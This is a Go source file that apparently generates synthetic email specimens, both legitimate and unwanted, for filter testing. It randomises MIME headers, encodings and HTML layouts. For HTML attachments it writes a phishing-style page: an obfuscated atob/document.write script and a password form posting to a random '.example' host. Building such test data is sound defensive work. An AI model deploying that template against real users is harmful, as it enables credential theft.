package specimen

import (
	"encoding/base64"
	"fmt"
	"html"
	"mime"
	"mime/quotedprintable"
	"strings"
	"time"
)

// mail writes a mail down: the same ways for wanted and unwanted ones, so that the way teaches nothing.
func (m *maker) mail() []byte {
	m.to = m.pick(pools["box"]) + "@" + m.pick(pools["house"])
	l := m.kind.form(m)
	if l.to == "" {
		l.to = m.to
	}
	var b strings.Builder
	m.header(&b, &l)
	m.body(&b, &l)
	return []byte(strings.ReplaceAll(b.String(), "\n", "\r\n"))
}

// header writes the fields, in one of several orders.
func (m *maker) header(b *strings.Builder, l *letter) {
	when := time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(m.IntN(3*365*24*60)) * time.Minute)
	zone := m.one("+0900", "+0000", "-0500", "+0900", "+0200")
	host := l.from[strings.IndexByte(l.from, '@')+1:]
	var fields []string
	from := "<" + l.from + ">"
	if l.name != "" {
		from = m.encoded(l.name) + " " + from
	}
	fields = append(fields, "From: "+from, "To: "+m.one("<"+l.to+">", l.to, "\""+l.to+"\" <"+l.to+">"), "Subject: "+m.encoded(l.subject),
		"Date: "+when.Format("Mon, 02 Jan 2006 15:04:05 ")+zone)
	if m.IntN(20) > 0 {
		fields = append(fields, "Message-ID: <"+m.one(m.mix(24), m.mix(8)+"-"+m.mix(4)+"-"+m.mix(12), fmt.Sprint(when.Unix())+"."+m.mix(6))+"@"+m.one(host, host, "mail."+host, "localhost.localdomain")+">")
	}
	if l.reply != "" {
		fields = append(fields, "Reply-To: <"+l.reply+">")
	}
	if l.answer {
		fields = append(fields, "In-Reply-To: <"+m.mix(20)+"@"+m.pick(pools["house"])+">")
	}
	m.Shuffle(len(fields), func(i, j int) { fields[i], fields[j] = fields[j], fields[i] })
	for _, f := range fields {
		b.WriteString(f + "\n")
	}
	b.WriteString("MIME-Version: 1.0\n")
	switch m.IntN(6) {
	case 0:
		b.WriteString("X-Mailer: " + m.one("Microsoft Outlook 16.0", "Apple Mail (2.3774.600.62)", "PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)", "Becky! ver. 2.81.01 [ja]") + "\n")
	case 1:
		b.WriteString("User-Agent: Mozilla Thunderbird\n")
	}
	if m.IntN(8) == 0 {
		b.WriteString("X-Priority: " + m.one("3", "1 (Highest)") + "\n")
	}
}

// encoded is a text as an unstructured field or phrase.
func (m *maker) encoded(t string) string {
	for i := 0; i < len(t); i++ {
		if t[i] >= 0x80 {
			if m.IntN(3) == 0 {
				return mime.QEncoding.Encode("utf-8", t)
			}
			return mime.BEncoding.Encode(m.one("UTF-8", "utf-8"), t)
		}
	}
	if strings.ContainsAny(t, "@,()<>") {
		return "\"" + t + "\""
	}
	return t
}

// body writes the content.
func (m *maker) body(b *strings.Builder, l *letter) {
	plain, page := m.plain(l), ""
	if l.page {
		page = m.page(l)
	}
	inner := func(b *strings.Builder) {
		switch {
		case page == "":
			m.part(b, "text/plain", plain)
		case m.IntN(2) == 0:
			m.part(b, "text/html", page)
		default:
			edge := "b_" + m.mix(18)
			fmt.Fprintf(b, "Content-Type: multipart/alternative; boundary=\"%s\"\n\n--%s\n", edge, edge)
			m.part(b, "text/plain", plain)
			fmt.Fprintf(b, "\n--%s\n", edge)
			m.part(b, "text/html", page)
			fmt.Fprintf(b, "\n--%s--\n", edge)
		}
	}
	if l.attach == "" {
		inner(b)
		return
	}
	edge := "=_" + m.mix(20)
	fmt.Fprintf(b, "Content-Type: multipart/mixed; boundary=\"%s\"\n\n--%s\n", edge, edge)
	inner(b)
	kind, data := "application/pdf", "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
	if strings.HasSuffix(l.attach, ".html") || strings.HasSuffix(l.attach, ".htm") || strings.HasSuffix(l.attach, ".shtml") {
		kind, data = "text/html", "<html><body><script>var a=atob('"+m.mix(80)+"');document.write(a);</script><form action=\"https://"+m.letters(9)+".example/p.php\"><input type=password></form></body></html>"
	}
	fmt.Fprintf(b, "\n--%s\nContent-Type: %s; name=\"%s\"\nContent-Disposition: attachment; filename=\"%s\"\nContent-Transfer-Encoding: base64\n\n%s\n--%s--\n", edge, kind, l.attach, l.attach,
		base64.StdEncoding.EncodeToString([]byte(data)), edge)
}

// part writes one text.
func (m *maker) part(b *strings.Builder, kind, text string) {
	ascii := true
	for i := 0; i < len(text); i++ {
		ascii = ascii && text[i] < 0x80
	}
	how := m.IntN(3)
	if ascii && how == 0 {
		fmt.Fprintf(b, "Content-Type: %s; charset=%s\nContent-Transfer-Encoding: 7bit\n\n%s\n", kind, m.one("utf-8", "us-ascii", "\"UTF-8\""), text)
		return
	}
	if how == 1 {
		fmt.Fprintf(b, "Content-Type: %s; charset=%s\nContent-Transfer-Encoding: quoted-printable\n\n", kind, m.one("utf-8", "\"UTF-8\""))
		var q strings.Builder
		w := quotedprintable.NewWriter(&q)
		_, _ = w.Write([]byte(text)) // a strings.Builder takes everything
		_ = w.Close()
		b.WriteString(strings.ReplaceAll(q.String(), "\r\n", "\n") + "\n")
		return
	}
	fmt.Fprintf(b, "Content-Type: %s; charset=%s\nContent-Transfer-Encoding: base64\n\n", kind, m.one("utf-8", "\"utf-8\"", "UTF-8"))
	e := base64.StdEncoding.EncodeToString([]byte(text))
	for len(e) > 76 {
		b.WriteString(e[:76] + "\n")
		e = e[76:]
	}
	b.WriteString(e + "\n")
}

// plain is the letter as plain text.
func (m *maker) plain(l *letter) string {
	out := strings.Join(l.lines, "\n\n")
	for _, u := range append([]string{l.link}, l.links...) {
		if u != "" {
			out += "\n\n" + u
		}
	}
	return out + "\n"
}

// page is the letter as HTML, in one of several builds.
func (m *maker) page(l *letter) string {
	var b strings.Builder
	build := m.IntN(3)
	switch build {
	case 0:
		b.WriteString("<html><body>\n")
	case 1:
		b.WriteString("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\"><style>body{margin:0;font-family:Arial}td{padding:8px}</style></head><body bgcolor=\"#f4f4f4\"><table width=\"600\" align=\"center\"><tr><td>\n")
	case 2:
		b.WriteString("<div dir=\"ltr\">\n")
	}
	if l.picture != "" {
		fmt.Fprintf(&b, "<img src=\"%s\" alt=\"\" width=\"120\">\n", l.picture)
	}
	at := m.IntN(len(l.lines)/2+1) + (len(l.lines)+1)/2
	for i, t := range l.lines {
		tag := m.one("p", "div", "p")
		fmt.Fprintf(&b, "<%s style=\"%s\">%s</%s>\n", tag, m.one("font-size:14px;color:#333", "margin:0 0 12px", "line-height:1.5"), strings.ReplaceAll(html.EscapeString(t), "\n", "<br>"), tag)
		if l.link != "" && (i == at || i == len(l.lines)-1 && at >= len(l.lines)) {
			shown := l.shown
			if shown == "" {
				shown = l.link
			}
			fmt.Fprintf(&b, "<p><a href=\"%s\" style=\"%s\">%s</a></p>\n", html.EscapeString(l.link), m.one("background:#0067b8;color:#fff;padding:10px 20px;text-decoration:none", "color:#06c", "display:inline-block;border-radius:4px;background-color:#e47911;padding:12px"), html.EscapeString(shown))
		}
	}
	for _, u := range l.links {
		fmt.Fprintf(&b, "<p><a href=\"%s\">%s</a></p>\n", html.EscapeString(u), html.EscapeString(m.one("Unsubscribe", "View in browser", "Help", "Privacy", u)))
	}
	b.WriteString([]string{"</body></html>", "</td></tr></table></body></html>", "</div>"}[build])
	return b.String()
}
